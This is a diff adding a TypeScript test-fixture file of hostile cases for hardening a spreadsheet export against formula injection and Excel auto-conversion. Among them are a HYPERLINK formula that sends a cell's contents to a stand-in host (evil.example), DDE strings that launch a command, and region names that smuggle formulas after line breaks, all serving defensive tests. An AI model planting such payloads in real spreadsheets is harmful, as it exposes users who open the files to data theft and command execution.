@@ -1,0 +1,59 @@
+/**
+ * The hostile corpora of issue 12, one per class of defect, written against the class (generated where the class
+ * has a shape: every trigger behind every kind of invisible prefix, every Excel-convertible form…). Each class test
+ * in this folder draws its cases from here, and test/hardening/count.test.ts prints how many there are per class
+ * (at least 200 in all). Property tests (fast-check) come on top of these fixed cases.
+ */
+
+/** Formula triggers, ASCII and full width. */
+export const TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"] as const;
+
+/** What a spreadsheet or an importer may trim in front of a trigger. */
+export const INVISIBLE_PREFIXES = [
+  "", "\t", "\r", "\n", "\r\n", " ", "  ", "\u00A0", "\u3000", "\u2002", "\u2007", "\u202F", "\u205F", "\uFEFF", "\u200B", "\t\u3000",
+] as const;
+
+/** What follows a trigger in real payloads: arithmetic, functions, DDE, HYPERLINK. */
+export const PAYLOAD_TAILS = [
+  "1+1",
+  "SUM(1,2)",
+  "HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
+  "cmd|' /C calc'!A0",
+  "DDE(\"cmd\";\"/C calc\";\"!A0\")",
+  "2+5+cmd|' /C calc'!A0",
+] as const;
+
+/** Every trigger behind every invisible prefix, with every tail (8 × 16 × 6 = 768 strings). */
+export function formulaPayloads(): string[] {
+  const out: string[] = [];
+  for (const p of INVISIBLE_PREFIXES) for (const t of TRIGGERS) for (const tail of PAYLOAD_TAILS) out.push(`${p}${t}${tail}`);
+  return out;
+}
+
+/**
+ * Text that Excel converts when typed (or written to Range.values), in a zh-CN or en-US locale: dates, times,
+ * currency, accounting negatives, fractions, percentages, thousands separators, full-width digits, booleans, error
+ * literals, leading zeros, a leading apostrophe (itself eaten), exponents.
+ */
+export const CONVERTIBLE_TEXT = [
+  "2025年3月31日", "2025年3月", "3月5日", "2025年03月31日", "¥1,000", "￥1,000", "$1,000", "¥1000.50", "(100)", "(1,000)",
+  "1 1/2", "0 1/2", "1/2", "12/31", "12:30", "12:30:15", "8:05 PM", "8:05am", "50%", "12.5%", "-3%", "1,234", "1,234.5",
+  "1,234.5,678", "１２３", "１，２３４", "０．５", "１２：３０", "２０２５年３月３１日", "TRUE", "false", "True", "ＴＲＵＥ",
+  " TRUE ", "#N/A", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#NULL!", "#SPILL!", "#CALC!", "'=1+1", "''",
+  "'abc", "'0012", "0012", "00", "007", "1e5", "1E-3", "2025-03-31", "2025/3/31", "2025-3", "2025.3.31", "3-5", "Mar 5",
+  "5-Mar-2025", "March 2025", "3.31", "-0", "+5", ".5", "1.", " 12 ", "\u00A012", "12\u00A0", "\t12", "1\u00A0234",
+  "12 345", "٣", "१२३", "Ⅻ", "①", "²",
+] as const;
+
+/** Region names with line breaks: a new briefing line must never start inside a region name. */
+export const MULTILINE_NAMES = [
+  "西宁\n=1+1", "甲\r\n@SUM(1)", "乙\r+cmd|' /C calc'!A0", "丙\u2028-1+1", "丁\u2029=HYPERLINK(\"http://x\")", "戊\v=1", "己\f=1",
+  "庚\u0085=1",
+] as const;
+
+/** How many fixed hostile cases each class has (filled by each class's corpus below; printed by count.test.ts). */
+export function classCounts(): Record<string, number> {
+  return {
+    "1 text cells (formula payloads × prefixes, convertible text, multi-line names)": formulaPayloads().length + CONVERTIBLE_TEXT.length + MULTILINE_NAMES.length,
+  };
+}
